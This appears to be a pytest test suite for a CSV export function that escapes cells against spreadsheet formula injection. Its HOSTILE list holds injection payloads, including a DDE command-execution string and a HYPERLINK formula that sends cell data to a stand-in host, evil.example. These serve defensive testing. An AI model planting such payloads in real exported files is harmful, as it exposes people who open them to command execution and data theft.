"""CSV cells are never formulas, and readers recover their text."""

import csv
import io
import json
import re

import pytest
from hypothesis import given, strategies as st

from refresh_sessions.events.csv import format_cell, format_rows

HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "\0plain",
    " =1+1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x0b=1+1",
    '"=1+1',
    "'=1+1",
    '""=1+1',
    "`=1+1",
    '" =1+1',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM",
    "\ufe661+1",
    "\ufe621",
    "\ufe631",
    "\ufe6bSUM",
    "\u22121+1",
    "\u202e=1+1",
    "\u2066=1+1",
    "\xad=1+1",
    "\u061c=1+1",
    "\u180e=1+1",
    "\u3164=1+1",
    "\u2800=1+1",
    "\ufe0f=1+1",
    "x;\u202d\u2069=1+1",
    'x","=1+1',
    "x;=1+1",
    "x; =1+1",
    'x";"=1+1',
    "x\t=1+1",
    "x\r\n=1+1",
    "x\n@SUM",
    "x|=1+1",
    "Mozilla/5.0 (compatible; bot; +http://bot.example)",
]

PLAIN = [
    "Ada's phone",
    "Kitchen tablet - the old one",
    "person@example.org",
    "a=b",
    "1+1",
    "192.0.2.7",
    "::1",
    "2026-11-23T15:31:07.000000Z",
    "Tablet, black; 12 inches",
    "'quoted'",
    "Grüße 你好 🙂",
    "",
]

TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212"
INVISIBLE = "\xad\u061c\u180e\u200b\u202d\u202e\u2066\u2069\u2800\u3164\ufe0f\ufeff"


def read(text, **options):
    return list(csv.reader(io.StringIO(text, newline=""), strict=True, **options))


def is_formula(cell):
    """Return what a lenient spreadsheet would evaluate, after quotes and spaces."""
    bare = re.sub(rf"^[\s\x00-\x1f\"`{INVISIBLE}]+", "", cell)
    return bare.startswith(tuple(TRIGGERS))


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cell_of_hostile_text_is_not_a_formula(text):
    ((cell, _),) = read(format_rows([[text, "next"]]))
    assert not is_formula(cell)
    assert not cell.startswith(("\t", "\r", "\n", "\0"))
    # Nothing is lost: without apostrophes the cell equals the text.
    assert cell.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_csv_cell_split_by_another_separator_is_not_a_formula(text, separator):
    cell = format_cell(text)
    # A reader that ignores quotes.
    parts = re.split(rf"{re.escape(separator)}|[\r\n]", cell)
    assert not any(is_formula(part) for part in parts)


@pytest.mark.parametrize("text", PLAIN)
def test_csv_cell_of_harmless_text_is_unchanged(text):
    assert format_cell(text) == text


@pytest.mark.parametrize(
    ("value", "written"), [(None, ""), (7, "7"), (-7, "-7"), (2.5, "2.5"), (True, "True")]
)
def test_csv_cell_of_number_or_none_is_unchanged(value, written):
    assert read(format_rows([[value, "next"]])) == [[written, "next"]]


@pytest.mark.parametrize("text", HOSTILE + PLAIN)
def test_csv_json_cell_round_trips_without_formula(text):
    details = {"user_agent": text, text: 1, "list": [text, -1], "none": None}
    ((cell,),) = read(format_rows([[details]]))
    assert json.loads(cell) == details
    for separator in (";", "\t", "|", "\n"):
        assert not any(is_formula(part) for part in cell.split(separator))


@pytest.mark.parametrize("text", ["=1", "-1", " @x", '"+1', "'=1", "''=1", "\tplain"])
def test_csv_cell_escape_at_start_is_one_apostrophe(text):
    assert format_cell(text) == f"'{text}"


@given(st.lists(st.lists(st.text(alphabet=st.characters(codec="utf-8")), min_size=1), min_size=1))
def test_csv_cell_of_any_text_round_trips_without_apostrophes(rows):
    written = read(format_rows(rows))
    stripped = [[cell.replace("'", "") for cell in row] for row in written]
    assert stripped == [[text.replace("'", "") for text in row] for row in rows]
    assert not any(is_formula(cell) for row in written for cell in row)
